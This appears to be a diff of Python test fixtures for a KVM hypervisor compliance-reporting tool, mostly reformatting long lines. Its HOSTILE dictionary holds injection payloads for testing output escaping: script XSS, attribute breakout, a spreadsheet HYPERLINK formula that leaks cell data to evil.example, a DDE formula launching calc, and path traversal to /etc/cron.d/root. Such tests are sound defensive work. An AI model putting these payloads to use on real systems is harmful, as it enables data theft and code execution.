@@ -27,7 +27,7 @@ CSF = (["PR.AC-3"], ["PR.DS-2", "DE.AE-3"], ["DE.CM-7"])
 HOSTILE = {
     "html": "</title></style><script>alert(1)</script><img src=x onerror=alert(2)>",
     "attribute": '" autofocus onfocus="alert(1)',
-    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "command": "@SUM(1+1)*cmd|' /C calc'!A0",
     "tab": "\t=1+1",
     "traversal": "../../../../etc/cron.d/root",
@@ -61,8 +61,9 @@ def a_measure(measure_id: str, section: str, checks: int) -> Measure:
     """A measure; its severity follows its number, its third check is supplementary."""
     severity = SEVERITIES[int(measure_id.split(".")[2]) % 4]
     return Measure(
-        id=measure_id, title=f"Title of {measure_id}", text=f"The hypervisor must do what {measure_id} says.", section=section,
-        obligation="advisory" if section == "11.3" else "must", severity=severity, kind="technical", role="remote_access",
+        id=measure_id, title=f"Title of {measure_id}", text=f"The hypervisor must do what {measure_id} says.",
+        section=section, obligation="advisory" if section == "11.3" else "must", severity=severity, kind="technical",
+        role="remote_access",
         nist_csf=CSF[int(measure_id.split(".")[2]) % 3], nist_csf_2=["PR.AA-03"], cis_v8=["4.6"],
         interpretation=f"How {measure_id} is read.", limits={"kvm": "Only what the host shows."},
         checks=[a_check(measure_id, index, severity) for index in range(checks)],
@@ -83,8 +84,9 @@ def a_check(measure_id: str, index: int, severity: str) -> Check:
 
 def a_subject(name: str = "kvm1", **changes: Any) -> dict[str, Any]:
     return {
-        "id": f"{name}/4c4c4544-0051-3010-8052-b4c04f4e3132", "name": name, "slug": f"{name}-1a2b3c4d", "platform": "kvm",
-        "kind": "host", "endpoint": name, "product": "Debian GNU/Linux 12, libvirt 9.0.0, QEMU 7.2", "reachable": True,
+        "id": f"{name}/4c4c4544-0051-3010-8052-b4c04f4e3132", "name": name, "slug": f"{name}-1a2b3c4d",
+        "platform": "kvm", "kind": "host", "endpoint": name, "reachable": True,
+        "product": "Debian GNU/Linux 12, libvirt 9.0.0, QEMU 7.2",
         "collected_at": "2026-11-23T17:43:58Z", "verdict": "compliant", "tags": {"supplier": "Example Ltd"},
         "score": {"before_exceptions": 1.0, "after_exceptions": 1.0}, "unreachable_reason": None, **changes,
     }  # fmt: skip
@@ -97,18 +99,23 @@ def a_result(check: Check, subject: str, **changes: Any) -> dict[str, Any]:
     return {
         "subject": subject, "measure": check.measure, "check": check.id, "name": check.name, "title": check.title,
         "platform": check.platform, "tier": check.tier, "obligation": check.obligation, "severity": check.severity,
-        "measured": "pass", "status": "pass", "expected": "no", "actual": "no", "persistent": True, "message": "", "items": [],
-        "items_total": 0, "exception": None, "attestation": None, "role": check.role, "threshold_source": "dwp",
+        "measured": "pass", "status": "pass", "expected": "no", "actual": "no", "persistent": True, "message": "",
+        "items": [], "items_total": 0, "exception": None, "attestation": None, "role": check.role,
+        "threshold_source": "dwp",
         "probe": check.probe, "fix": check.fix,
         "disruption": {
-            "restart": "sshd", "reboot": False, "maintenance": False, "vm_power": False, "lockout": 3, "rollback": "restore the file",
+            "restart": "sshd", "reboot": False, "maintenance": False, "vm_power": False, "lockout": 3,
+            "rollback": "restore the file",
         },
         **changes,
     }  # fmt: skip
 
 
 def a_document(
-    standard: Standard, subject: dict[str, Any] | None = None, changes: dict[str, dict[str, Any]] | None = None, **parts: Any
+    standard: Standard,
+    subject: dict[str, Any] | None = None,
+    changes: dict[str, dict[str, Any]] | None = None,
+    **parts: Any,
 ) -> dict[str, Any]:
     """A subject-results document. changes: check id, measure id or "*" -> keys of the result to set."""
     subject = subject or a_subject()
@@ -137,13 +144,20 @@ def a_document(
 
 def every_status(standard: Standard, name: str = "kvm1") -> dict[str, Any]:
     """A document in which each status occurs, with items, an exception, an attestation and a hard-to-undo failure."""
-    items = [{"id": f"vm-{n}", "status": "fail", "actual": {"label": None}, "message": "has no label"} for n in range(8)]
+    items = [
+        {"id": f"vm-{n}", "status": "fail", "actual": {"label": None}, "message": "has no label"} for n in range(8)
+    ]
     exception = {"id": "EX-7", "risk_ref": "RISK-0042", "expires_on": "2026-12-01"}
     attestation = {"id": "AT-3", "signed_by": "A. Owner", "signed_on": "2026-10-01", "expires_on": "2027-09-30"}
     changes = {
         "11.4.6": {"status": "fail", "actual": "yes", "message": "root can log in", "persistent": False},
         "kvm-11.2.1-check-0": {"status": "fail", "items": items, "items_total": 12, "actual": {"vm-0": None}},
-        "11.1.2": {"status": "unknown", "actual": None, "persistent": None, "message": "/etc/sudoers: permission denied"},
+        "11.1.2": {
+            "status": "unknown",
+            "actual": None,
+            "persistent": None,
+            "message": "/etc/sudoers: permission denied",
+        },
         "11.1.3": {"status": "manual", "actual": None, "persistent": None, "message": "needs a signed statement"},
         "11.2.6": {"status": "excepted", "measured": "fail", "exception": exception, "actual": "yes"},
         "11.2.5": {"status": "attested", "measured": "manual", "attestation": attestation, "actual": None},
@@ -152,7 +166,13 @@ def every_status(standard: Standard, name: str = "kvm1") -> dict[str, Any]:
         "kvm-11.4.8-check-1": {"threshold_source": "substitute: CIS 4.3", "expected": "at most 14", "actual": 3},
     }
     non_default = [
-        {"name": "gold_ssh_permit_root", "value": "prohibit-password", "default": "no", "floor_ok": False, "threshold_source": "dwp"}
+        {
+            "name": "gold_ssh_permit_root",
+            "value": "prohibit-password",
+            "default": "no",
+            "floor_ok": False,
+            "threshold_source": "dwp",
+        }
     ]
     return a_document(
         standard, a_subject(name), changes, gold={"sha256": "b" * 64, "non_default": non_default},
@@ -173,7 +193,14 @@ def hostile_run(standard: Standard) -> dict[str, Any]:
         item = {"id": text, "status": "fail", "actual": {text: text}, "message": text}
         exception = {"id": text[:60], "risk_ref": text[:60], "expires_on": "2026-12-01"}
         changes = {
-            "11.4.6": {"status": "fail", "actual": text, "expected": text, "message": text, "items": [item], "items_total": 1},
+            "11.4.6": {
+                "status": "fail",
+                "actual": text,
+                "expected": text,
+                "message": text,
+                "items": [item],
+                "items_total": 1,
+            },
             "11.2.6": {"status": "excepted", "measured": "fail", "exception": exception, "actual": {text: [text]}},
             "11.1.2": {"status": "unknown", "message": text, "probe": text, "fix": text},
         }
